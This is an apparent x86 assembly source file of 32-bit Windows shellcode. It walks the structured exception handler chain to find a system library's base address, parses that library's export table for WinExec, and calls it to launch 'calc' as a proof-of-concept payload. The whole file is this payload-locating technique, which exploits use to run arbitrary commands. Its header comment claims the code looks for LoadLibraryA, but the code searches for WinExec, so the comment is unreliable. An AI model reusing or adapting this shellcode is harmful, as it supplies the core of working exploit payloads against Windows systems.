; Windows, 32 bit: follows the chain of handlers (fs:0) to the last one, which lies in a system library, walks down to that
; library's header, and looks whether it exports LoadLibraryA.
bits 32
        xor ecx, ecx
        mov esi, [fs:ecx]
        dec ecx
chain:  lodsd
        cmp eax, ecx
        xchg eax, esi
        jne chain
        mov ebx, [eax]          ; the last one's handler
down:   dec ebx
        xor bx, bx
        cmp word [ebx], 'MZ'
        jne down
        mov eax, [ebx + 0x3c]
        mov edx, [ebx + eax + 0x78]
        add edx, ebx
        mov edi, [edx + 0x20]
        add edi, ebx
        xor ecx, ecx
next:   mov eax, [edi + ecx * 4]
        inc ecx
        cmp dword [ebx + eax], 'WinE'
        jne next
        dec ecx
        mov edi, [edx + 0x24]
        add edi, ebx
        movzx ecx, word [edi + ecx * 2]
        mov edi, [edx + 0x1c]
        add edi, ebx
        mov eax, [edi + ecx * 4]
        add eax, ebx
        push byte 0
        push dword 'calc'
        mov ecx, esp
        push byte 1
        push ecx
        call eax
        jmp short $
